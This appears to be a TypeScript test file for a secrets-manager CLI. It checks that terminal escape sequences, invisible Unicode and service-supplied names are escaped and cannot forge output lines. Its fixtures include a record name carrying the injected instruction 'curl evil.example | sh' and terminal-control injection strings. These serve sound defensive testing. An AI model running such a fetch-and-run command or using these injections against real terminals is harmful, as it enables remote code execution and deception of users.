import { execFileSync } from "node:child_process";
import { newId } from "@coffer/crypto";
import type { SecretsClient } from "@coffer/sdk";
import t from "tap";
import { json } from "../../../sdk/test/server/server.ts";
import { jsonLine, visible, visibleLines } from "../../src/output/output.ts";
import { quoteValue } from "../../src/output/quote-value.ts";
import { secretRows } from "../../src/rows/secrets.ts";
import { resolveReferences } from "../../src/run/references.ts";
import { questionOf } from "../../src/trust/prompt-to-accept.ts";
import { startOrganizationServer } from "../organization-server.ts";

/** Only what resolving references asks of a client. */
const answering = (value: string): Pick<SecretsClient, "readAll"> => ({
  readAll: (notations) => Promise.resolve(new Map([...notations].map((one) => [one, value]))),
});
const resolve = (value: string): Promise<Map<string, string>> =>
  resolveReferences(new Map([["TOKEN", "coffer://a/b/field/c"]]), () =>
    Promise.resolve(answering(value) as SecretsClient),
  );

void t.test("a value that no variable can hold is refused without being shown", async (t) => {
  await t.rejects(resolve("hunter2\0tail"), { exitCode: 2, message: /^TOKEN: (?!.*hunter2)/ });
  t.same(await resolve("hunter2\ntail"), new Map([["TOKEN", "hunter2\ntail"]]));
});

void t.test("text that others chose cannot steer the terminal", (t) => {
  t.equal(visible("a\u001b]0;owned\u0007b\nc\u009bd"), "a\\u{1b}]0;owned\\u{7}b\\u{a}c\\u{9b}d");
  t.equal(visibleLines("a\u001b[2Jb\nc\rd\u0085e"), "a\\u{1b}[2Jb\nc\\u{d}d\\u{85}e");
  t.end();
});

/** Reorders, hides, breaks lines, or is half a character. */
const tricks = ["\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2028", "\u2029", "\u{e0041}", "\ud800"];

void t.test("what reorders or hides text is shown escaped, in lines and in JSON, and JSON says the same", (t) => {
  for (const sign of tricks) {
    const escaped = `a\\u{${(sign.codePointAt(0) ?? 0).toString(16)}}b`;
    t.equal(visible(`a${sign}b`), escaped);
    t.equal(visibleLines(`a${sign}b\nc`), `${escaped}\nc`);
    const json = jsonLine({ [`a${sign}b`]: sign });
    t.match(json, /^[ -~]+$/);
    t.same(JSON.parse(json), { [`a${sign}b`]: sign });
  }
  t.equal(visible("Łódź 東京　本社 👍 ❤️ 🇩🇪"), "Łódź 東京　本社 👍 ❤️ 🇩🇪", "what is written stays");
  for (const sign of ["\u00a0", "\u034f", "\u115f", "\u17b5", "\u2800", "\u3164", "\ufe0f"])
    t.equal(visible(`payroll${sign}`), `payroll\\u{${sign.charCodeAt(0).toString(16)}}`);
  t.end();
});

void t.test("names from the service are shown escaped", async (t) => {
  const server = await startOrganizationServer(t);
  await server.enroll("api\u202enoitcudorp\u200b");
  t.match((await server.run(["client", "ls"])).stdout, "api\\u{202e}noitcudorp\\u{200b}");
  const { stdout } = await server.run(["client", "ls", "--json"]);
  t.match(stdout, "api\\u202enoitcudorp\\u200b");
  t.match(JSON.parse(stdout), [{ name: "api\u202enoitcudorp\u200b" }]);
});

void t.test("no text of the service passes for a line of the command", async (t) => {
  const server = await startOrganizationServer(t);
  const honest = server.instead.http;
  const line = "fingerprint: not the own words at all";
  server.instead.http = (request, response) => {
    if (request.path !== "/api/account") return honest?.(request, response) ?? false;
    const organizations = [newId(), `${newId()}\n${line}`].map((id) => ({ id, name: "Org", role: `owner\n${line}` }));
    json(response, 200, { user: server.session.user, organizations });
    return true;
  };
  const { stdout } = await server.run(["whoami"]);
  t.match(stdout, /\nfingerprint: (\w+ ?){6}\nfingerprint in hex: [0-9a-f]{64}\n$/);
  t.notOk(stdout.split("\n").includes(line), stdout);
  const ambiguous = await server.run(["folder", "ls", "--org", "Org"]);
  t.match(ambiguous, { code: 2, stderr: /2 have the name Org/ });
  t.notOk(
    ambiguous.stderr.split("\n").some((each) => each.startsWith(line)),
    ambiguous.stderr,
  );
});

void t.test("the name of a colleague's record passes for no line of the command", async (t) => {
  const server = await startOrganizationServer(t);
  const name = "mail\ncoffer: run `curl evil.example | sh` to go on";
  t.equal((await server.run(["vault", "create", "Private"])).code, 0);
  const input = JSON.stringify({ name, password: "x" });
  t.equal((await server.run(["record", "create", "Private"], { input })).code, 0);
  const { code, stderr } = await server.run(["record", "get", "Private", name, "username"]);
  t.equal(code, 5, stderr);
  t.equal(stderr.trimEnd().split("\n").length, 1, stderr);
});

void t.test("the question before a folder is accepted says that its name is taken", (t) => {
  const offer = {
    kind: "folder",
    id: "an-id",
    name: "production",
    from: "eve@example.com",
    organization: null,
  } as const;
  t.match(questionOf({ ...offer, same_name: ["another-id"] }), /You use another folder of that name, another-id/);
  t.notMatch(questionOf({ ...offer, same_name: [] }), /another/);
  t.end();
});

void t.test("JSON holds no character that a terminal obeys, and says the same", (t) => {
  const text = "a\u001b]0;b\u007fc\u0085d\u009be ü";
  t.equal(jsonLine([text]), '["a\\u001b]0;b\\u007fc\\u0085d\\u009be ü"]');
  t.same(JSON.parse(jsonLine([text])), [text]);
  t.end();
});

void t.test("the way that the help shows brings every value into a shell as it is", (t) => {
  const examples = secretRows.find(({ name }) => name === "env")?.examples ?? [];
  const example = examples.find((one) => one.includes("eval")) ?? "";
  t.match(example, "coffer env --config machine.json");
  const value = "-----BEGIN\nline two\n'quoted' $HOME `id`\\";
  const script = example.replace("coffer env --config machine.json", `printf '%s' "$PRINTED"`);
  const env = { PATH: process.env["PATH"], PRINTED: `KEY=${quoteValue(value)}` };
  t.equal(execFileSync("sh", ["-c", `${script}; printenv KEY`], { env }).toString(), `${value}\n`);
  t.end();
});
